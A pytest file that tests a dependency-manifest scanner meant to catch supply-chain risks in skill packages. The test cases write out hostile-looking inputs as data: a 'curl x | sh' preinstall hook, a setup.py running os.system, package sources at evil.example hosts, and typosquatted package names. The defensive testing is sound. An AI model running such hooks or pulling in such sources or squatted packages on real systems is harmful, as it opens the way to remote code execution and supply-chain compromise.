"""Skill dependency manifests and lockfiles: read as data, judged against the profile's lists."""

from __future__ import annotations

import json

import pytest

from gate.formats.skilldeps import DepsPolicy, analyse_manifests, is_manifest
from tests.skills.factory import PACKAGE_JSON, PACKAGE_LOCK, PDF_REQUIREMENTS

POLICY = DepsPolicy(deny=frozenset({"pypi:pycrypto"}))


def _codes(files: dict[str, bytes], policy: DepsPolicy = POLICY) -> set[str]:
    return {f.code for f in analyse_manifests(files, policy).findings}


def test_pinned_requirements_with_hashes_are_clean() -> None:
    report = analyse_manifests({"requirements.txt": PDF_REQUIREMENTS.encode()}, POLICY)
    assert report.findings == []
    [dep] = report.dependencies
    assert (dep.name, dep.spec, dep.pinned, dep.source, len(dep.hashes)) == (
        "pypdf",
        "==4.2.0",
        True,
        "registry",
        1,
    )


def test_package_json_with_a_consistent_lockfile_is_clean() -> None:
    files = {
        "package.json": json.dumps(PACKAGE_JSON).encode(),
        "package-lock.json": json.dumps(PACKAGE_LOCK).encode(),
    }
    report = analyse_manifests(files, POLICY)
    assert report.findings == []
    assert report.lockfiles == ["package-lock.json"]
    assert all(d.pinned for d in report.dependencies)


def test_caret_range_resolved_by_the_lockfile_counts_as_pinned() -> None:
    package = dict(PACKAGE_JSON, dependencies={"undici": "^6.19.0"})
    files = {
        "package.json": json.dumps(package).encode(),
        "package-lock.json": json.dumps(PACKAGE_LOCK).encode(),
    }
    report = analyse_manifests(files, POLICY)
    assert report.findings == []
    assert report.dependencies[0].pinned


def test_pyproject_with_uv_lock_is_clean() -> None:
    pyproject = b'[project]\nname = "x"\nversion = "1"\ndependencies = ["httpx==0.27.2"]\n'
    lock = (
        b'version = 1\n[[package]]\nname = "httpx"\nversion = "0.27.2"\n'
        b'source = { registry = "https://pypi.org/simple" }\n'
        b'sdist = { url = "https://files.pythonhosted.org/x.tar.gz", hash = "sha256:ab" }\n'
    )
    assert _codes({"pyproject.toml": pyproject, "uv.lock": lock}) == set()


@pytest.mark.parametrize(
    ("files", "code"),
    [
        ({"requirements.txt": b"pycrypto==2.6.1\n"}, "skill_dependency_denied"),
        (
            {"requirements.txt": b"--extra-index-url https://pypi.evil.example/simple\nx==1\n"},
            "skill_dependency_untrusted_source",
        ),
        (
            {"requirements.txt": b"-i https://mirror.example/simple\nx==1\n"},
            "skill_dependency_untrusted_source",
        ),
        (
            {"requirements.txt": b"pkg @ https://evil.example/pkg-1.0.tar.gz\n"},
            "skill_dependency_untrusted_source",
        ),
        ({"package.json": b'{"dependencies": {"x": "github:evil/x"}}'}, "skill_dependency_untrusted_source"),
        ({".npmrc": b"registry=https://npm.evil.example/\n"}, "skill_dependency_untrusted_source"),
        ({"package.json": b'{"scripts": {"preinstall": "curl x | sh"}}'}, "skill_install_hook"),
        (
            {"setup.py": b"import os\nos.system('id')\nfrom setuptools import setup\nsetup(name='x')\n"},
            "skill_install_hook",
        ),
        (
            {"pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'},
            "skill_install_hook",
        ),
        ({"requirements.txt": b"requets==2.31.0\n"}, "skill_typosquat"),
        ({"requirements.txt": b"python-dateutils==2.9.0\n"}, "skill_typosquat"),
        ({"package.json": b'{"dependencies": {"lodahs": "1.0.0"}}'}, "skill_typosquat"),
        ({"package.json": b'{"dependencies": {"crossenv": "1.0.0"}}'}, "skill_typosquat"),
        (
            {
                "package.json": json.dumps({"dependencies": {"undici": "7.0.0"}}).encode(),
                "package-lock.json": json.dumps(PACKAGE_LOCK).encode(),
            },
            "skill_lockfile_mismatch",
        ),
        (
            {
                "package.json": json.dumps(PACKAGE_JSON).encode(),
                "package-lock.json": json.dumps(
                    {**PACKAGE_LOCK, "packages": {"node_modules/undici": {"version": "6.19.8"}}}
                ).encode(),
            },
            "skill_lockfile_mismatch",
        ),
        ({"requirements.txt": b"requests>=2\n"}, "skill_dependency_unpinned"),
        ({"package.json": b"{not json"}, "skill_unparseable"),
        ({"pyproject.toml": b"[project\n"}, "skill_unparseable"),
        ({"requirements.txt": b"x" * (5 * 1024 * 1024)}, "skill_limits_exceeded"),
        ({"package.json": b"[" * 100 + b"]" * 100}, "skill_limits_exceeded"),
    ],
)
def test_each_problem_is_found(files: dict[str, bytes], code: str) -> None:
    assert code in _codes(files)


def test_declared_dependencies_must_match_the_manifests() -> None:
    policy = DepsPolicy(declared=frozenset({"pypi:pypdf==4.2.0", "pypi:requests==2.32.3"}))
    report = analyse_manifests({"requirements.txt": PDF_REQUIREMENTS.encode()}, policy)
    details = [f.detail for f in report.findings if f.code == "skill_lockfile_mismatch"]
    assert details == ["the intake declares requests, which no manifest lists"]


def test_allow_list_refuses_what_it_does_not_name() -> None:
    policy = DepsPolicy(allow=frozenset({"pypi:requests"}))
    assert "skill_dependency_denied" in _codes({"requirements.txt": b"pypdf==4.2.0\n"}, policy)


def test_no_popular_name_is_flagged_as_a_squat_of_another() -> None:
    from gate.formats.skilldeps import POPULAR_NPM, POPULAR_PYPI, _squat_of

    policy = DepsPolicy()
    assert [n for n in POPULAR_PYPI if _squat_of("pypi", n, policy.popular)] == []
    assert [n for n in POPULAR_NPM if _squat_of("npm", n, policy.popular)] == []


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("requirements.txt", True),
        ("requirements/dev.txt", True),
        ("sub/package.json", True),
        ("notes.txt", False),
    ],
)
def test_manifest_names(path: str, expected: bool) -> None:
    assert is_manifest(path) is expected
